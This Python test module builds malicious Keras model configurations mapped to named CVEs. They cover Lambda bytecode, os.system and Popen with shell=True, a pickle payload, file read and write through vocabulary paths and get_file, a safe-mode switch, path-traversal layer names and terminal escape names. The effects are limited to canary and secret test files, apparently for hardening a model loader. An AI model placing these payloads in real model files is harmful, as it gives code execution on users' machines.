"""Attacks by code and files that the description of the layers names, in every format."""

from __future__ import annotations

import base64
import marshal

from load.attacks.files import dense, in_every_format, layer, network


def bytecode(target):
    """Marshalled code that writes the canary, as Lambda layers hold it."""
    source = f"lambda x: __import__('pathlib').Path({str(target.canary)!r}).write_text('x')"
    code = compile(source, "x", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def shell(target):
    return f"touch {target.canary}"


def function(name, module):
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def lambda_bytecode(t):
    value = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("Lambda", "keras.layers", function=value, arguments={}))


def lambda_old_bytecode(t):
    code = [bytecode(t), None, None]
    return network(layer("Lambda", function=code, function_type="lambda", arguments={}))


def lambda_output_shape(t):
    code = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("Lambda", function="relu", output_shape=code))


def lambda_in_wrapper(t):
    inner = layer("Lambda", function=[bytecode(t), None, None], function_type="lambda")
    return network(layer("TimeDistributed", "keras.layers", layer=inner))


def module_and_function(t):
    activation = function("system", "os")
    return network(dense(activation=activation), last="dense")


def class_of_a_module(t):
    return network(layer("Popen", "subprocess", args=shell(t), shell=True))


def class_with_arguments(t):
    node = [{"args": [shell(t)], "kwargs": {}}]
    return network(layer("system", "os", nodes=node))


def get_file(t):
    get = function("get_file", "keras.utils")
    arguments = {"origin": t.secret.as_uri(), "fname": str(t.canary)}
    return network(layer("Lambda", "keras.layers", function=get, arguments=arguments))


def unsafe_switch(t):
    off = function("enable_unsafe_deserialization", "keras.config")
    return network(dense(activation=off), last="dense")


def load_another(t):
    load = function("load_model", "keras.models")
    node = [{"args": [], "kwargs": {"inputs": str(t.secret)}}]
    return network(layer("Lambda", "keras.layers", function=load, nodes=node))


def scope_gadget(t):
    made = layer("os.popen", "keras.src.saving.saving_api", name="p",
                 nodes=[[["_CONSTANT_VALUE", -1, shell(t), {}]]])  # fmt: skip
    return network({**made, "config": "LayerScale", "registered_name": "zz"}, last="p")


def private_module(t):
    made = layer("os.system", "keras.src.utils.io_utils", name="p",
                 nodes=[[["_CONSTANT_VALUE", -1, shell(t), {}]]])  # fmt: skip
    return network(made, last="p")


def registered_name(t):
    return network({**dense(), "module": "keras.layers", "registered_name": "os>system"},
                   last="dense")  # fmt: skip


def initializer_of_a_module(t):
    start = {"class_name": "system", "module": "os", "config": {"command": shell(t)}}
    return network(dense(kernel_initializer=start), last="dense")


def initializer_by_path(t):
    return network(dense(kernel_initializer="os.system"), last="dense")


def build_config(t):
    evil = {"class_name": "system", "module": "os", "config": {"command": shell(t)}}
    made = {**dense(), "module": "keras.layers", "build_config": {"input_shape": evil}}
    return network(made, last="dense")


def nested_compile_config(t):
    evil = {"class_name": "function", "module": "os", "config": "system"}
    inner = layer("Sequential", "keras", name="inner", layers=[dense()])
    return network({**inner, "compile_config": {"optimizer": evil, "loss": evil}, "extra": evil},
                   last="inner")  # fmt: skip


def saved_model_layer(t):
    return network(layer("TFSMLayer", "keras.layers", filepath=str(t.secret.parent)))


def torch_module(t):
    pickled = base64.b64encode(b"cos\nsystem\n(S'touch " + str(t.canary).encode() + b"'\ntR.")
    return network(layer("TorchModuleWrapper", "keras.layers", module=pickled.decode()))


def jax_layer(t):
    code = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("JaxLayer", "keras.layers", call_fn=code))


def feature_columns(t):
    column = {"class_name": "VocabularyFileCategoricalColumn",
              "config": {"key": "k", "vocabulary_file": str(t.secret)}}  # fmt: skip
    return network(layer("DenseFeatures", feature_columns=[column]))


def cell_wrapper(t):
    code = {"function": bytecode(t), "function_type": "lambda", "module": "x"}
    cell = layer("GRUCell", units=2)
    made = layer("ResidualWrapper", cell=cell, residual_fn=code)
    return network(layer("RNN", "keras.layers", cell=made))


def vocabulary(t):
    return network(layer("StringLookup", "keras.layers", vocabulary=str(t.secret)))


def remote_vocabulary(t):
    return network(layer("TextVectorization", vocabulary="http://127.0.0.1:9/words"))


def integer_vocabulary(t):
    return network(layer("IntegerLookup", vocabulary=str(t.secret), idf_weights=None))


def vocabulary_in_bytes(t):
    path = {"class_name": "__bytes__", "config": {"value": str(t.secret)}}
    return network(layer("StringLookup", vocabulary=path))


def vocabulary_in_an_array(t):
    path = {"class_name": "__numpy__", "config": {"value": str(t.secret), "dtype": "string"}}
    return network(layer("StringLookup", vocabulary=path))


def tensorflow_function(name, **kwargs):
    def make(t):
        arguments = {k: v.format(canary=t.canary, secret=t.secret) for k, v in kwargs.items()}
        node = [[["x", 0, 0, arguments]]]
        return network(layer("TFOpLambda", function=name, nodes=node))

    return make


def op_layer(t):
    op = {"op": "WriteFile", "name": "w", "input": [str(t.canary), "x"]}
    return network(layer("TensorFlowOpLayer", node_def=op, constants={}))


def class_method(t):
    made = layer("ClassMethod", cls_symbol="io.gfile.GFile", method_name="__init__",
                 nodes=[[["x", 0, 0, {"name": str(t.canary), "mode": "w"}]]])  # fmt: skip
    return network(made)


def composite_constant(t):
    spec = '{"class_name": "TypeSpec", "type_spec": "tf.DatasetSpec", "serialized": []}'
    node = [[["_CONSTANT_VALUE", -1, ["_COMPOSITE_TYPE", spec], {}]]]
    return network(layer("Activation", activation="relu", nodes=node))


def name_that_climbs(t):
    return network(layer("Dense", name=f"../../../../../../..{t.canary}", units=2),
                   last=f"../../../../../../..{t.canary}")  # fmt: skip


def name_that_rewrites_the_terminal(t):
    name = "a\x9b2J\x7f\u202eb"
    return network(layer("Dense", name=name, units=2), last=name)


_SOURCES = {
    lambda_bytecode: "CVE-2024-3660: code in a Lambda layer",
    lambda_old_bytecode: "GHSA-36rr-ww3j-vrjv, CVE-2025-9905: .h5 ignores safe_mode",
    lambda_output_shape: "CVE-2024-3660: code in another field of a Lambda layer",
    lambda_in_wrapper: "CVE-2024-3660: inside another layer",
    module_and_function: "CVE-2025-1550: a module and a function by name",
    class_of_a_module: "CVE-2025-1550: a class of any module",
    class_with_arguments: "CVE-2025-1550: arguments through inbound_nodes",
    get_file: "CVE-2025-8747: keras.utils.get_file writes any file",
    unsafe_switch: "CVE-2025-9906: turns safe_mode off from the description",
    load_another: "CVE-2025-9906: loads a second model",
    scope_gadget: "case 20: config names a class of the scope",
    private_module: "case 20: a dotted class name in a private module",
    registered_name: "case 20: a registered name of another package",
    initializer_of_a_module: "CVE-2025-1550: an initializer",
    initializer_by_path: "CVE-2025-1550: an initializer by a dotted path",
    build_config: "CVE-2025-1550: an object in build_config",
    nested_compile_config: "CVE-2025-1550: compile_config of an inner network",
    saved_model_layer: "CVE-2026-1462: TFSMLayer loads a SavedModel",
    torch_module: "TorchModuleWrapper unpickles (Keras 3.11's notes)",
    jax_layer: "JaxLayer holds code",
    feature_columns: "a vocabulary file of a feature column",
    cell_wrapper: "code in a wrapper of a recurrent cell",
    vocabulary: "CVE-2025-12058: vocabulary from a path",
    remote_vocabulary: "CVE-2025-12058: vocabulary from the network",
    integer_vocabulary: "CVE-2025-12058: IntegerLookup",
    vocabulary_in_bytes: "CVE-2025-12058: a path as bytes",
    vocabulary_in_an_array: "CVE-2025-12058: a path as an array",
    tensorflow_function("io.write_file", filename="{canary}", contents="x"): "TFOpLambda writes",
    tensorflow_function("io.read_file", filename="{secret}"): "TFOpLambda reads",
    tensorflow_function("raw_ops.WriteFile", filename="{canary}"): "TFOpLambda and raw_ops",
    tensorflow_function("py_function", func="os.system"): "TFOpLambda calls Python",
    tensorflow_function("load_op_library", library_filename="{secret}"): "TFOpLambda loads code",
    tensorflow_function("print", output_stream="file://{canary}"): "TFOpLambda prints to a file",
    tensorflow_function(
        "nn.fixed_unigram_candidate_sampler", vocab_file="{secret}"
    ): "TFOpLambda: a function of nn that reads a file",
    tensorflow_function("keras.utils.get_file", origin="{secret}"): "TFOpLambda and Keras' own",
    op_layer: "TensorFlowOpLayer runs an operator",
    class_method: "ClassMethod opens a file",
    composite_constant: "a constant that names a TypeSpec in a text of its own",
    name_that_climbs: "CVE-2026-12479: a layer's name is a path",
    name_that_rewrites_the_terminal: "a layer's name is an escape sequence",
}


ATTACKS = in_every_format(_SOURCES)
